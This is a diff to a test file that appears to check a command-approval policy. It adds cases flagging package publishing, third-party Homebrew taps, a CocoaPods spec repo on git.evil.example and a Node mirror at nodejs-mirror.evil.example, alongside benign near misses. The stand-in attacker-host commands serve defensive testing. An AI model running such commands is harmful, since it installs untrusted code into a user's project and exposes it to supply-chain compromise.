@@ -7,6 +7,13 @@ import { ready, verdictOf } from './harness';
 import { aTempDir } from '../../builders/tempProject';
 
 policyTable('package-publish', [
+  {
+    note: 'one workspace package published',
+    spec: 'pnpm --filter @acme/api-client publish --access public --no-git-checks',
+    expect: 'ask',
+  },
+  { note: 'every workspace package published', spec: 'pnpm -r publish', expect: 'ask' },
+  { note: 'near miss: one workspace package built', spec: 'pnpm --filter @acme/api-client build', expect: null },
   { note: 'unpublishing a package', spec: 'npm unpublish @acme/core --force', expect: 'ask' },
   { note: 'deprecating a release', spec: "npm deprecate @acme/core@1 'use v2'", expect: 'ask' },
   { note: 'removing a dist-tag', spec: 'npm dist-tag rm @acme/core beta', expect: 'ask' },
@@ -63,6 +70,25 @@ policyTable('background-process', [
 ]);
 
 policyTable('package-from-untrusted-source', [
+  {
+    note: "a third party's Homebrew tap",
+    spec: 'brew tap mobiletools-x/tap && brew install mobiletools-x/tap/ios-deploy-plus',
+    expect: 'ask',
+  },
+  { note: "near miss: a vendor's own tap", spec: 'brew install supabase/tap/supabase', expect: null },
+  { note: "near miss: Homebrew's own formulas", spec: 'brew install pnpm watchman cocoapods', expect: null },
+  {
+    note: 'a pod spec repository on another host',
+    spec: 'cd ios && pod repo add acme-private https://git.evil.example/acme/specs.git && pod install',
+    expect: 'ask',
+  },
+  { note: 'near miss: pods installed from the project', spec: 'cd ios && pod install --repo-update', expect: null },
+  {
+    note: 'Node itself from another mirror',
+    spec: 'NVM_NODEJS_ORG_MIRROR=https://nodejs-mirror.evil.example/dist nvm install 20.14.0',
+    expect: 'ask',
+  },
+  { note: 'near miss: Node from its own site', spec: 'nvm install 20.14.0', expect: null },
   {
     note: "a kernel cell's ! line, read as the shell it runs",
     spec: {
